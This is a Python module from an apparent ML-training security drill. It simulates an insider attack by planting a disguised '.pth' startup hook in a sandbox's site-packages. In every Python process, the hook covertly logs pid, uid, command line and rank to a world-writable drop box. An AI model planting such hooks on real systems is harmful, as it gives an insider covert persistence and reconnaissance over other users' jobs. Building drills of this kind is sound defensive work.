"""T2: a ``.pth`` startup hook: code that runs in every Python process of the environment.

``site`` executes each ``.pth`` line that starts with ``import`` at interpreter start, before
the training script, in every rank and in the launcher. The drill's hook is the insider's
foothold and reconnaissance: it appends who ran what (pid, uid, rank, world size, command
line) to a drop box the insider reads, which is how the incident's saboteur could aim at the
large jobs only. The payload is harmless; that it ran in the victim's ranks is the effect.
"""

from __future__ import annotations

import os
from pathlib import Path

from trainwarden._fs import atomic_write
from trainwarden.drill._attacks import AttackContext, AttackOutcome

__all__ = ["HOOK_NAME", "attack", "hook_line"]

#: File name of the hook (chosen to look like a packaging artefact).
HOOK_NAME = "_torch_cpu_compat.pth"

_RECON = """\
try:
    import json, os, sys, time
    with open({log!r}, "a", encoding="utf-8") as fh:
        fh.write(json.dumps({{"pid": os.getpid(), "uid": os.getuid(), "argv": sys.argv[:12],
                             "rank": os.environ.get("RANK"),
                             "world": os.environ.get("WORLD_SIZE"), "time": time.time()}}) + "\\n")
except Exception:
    pass
"""


def hook_line(log: str) -> str:
    """The ``.pth`` line: an ``import`` line that runs the reconnaissance payload."""
    return f"import sys; exec({_RECON.format(log=log)!r})\n"


def attack(ctx: AttackContext) -> AttackOutcome:
    """Drop the hook into the sandbox's site-packages."""
    site = Path(ctx.params["site"])
    log = str(ctx.params["recon_log"])
    ctx.begin(step=0)
    # The drop box must accept appends from the victim's processes (another uid).
    fd = os.open(log, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
    os.fchmod(fd, 0o666)
    os.close(fd)
    atomic_write(site / HOOK_NAME, hook_line(log), mode=0o644, what="startup hook")
    return AttackOutcome(touched=[HOOK_NAME], details={"file": HOOK_NAME, "log": log})
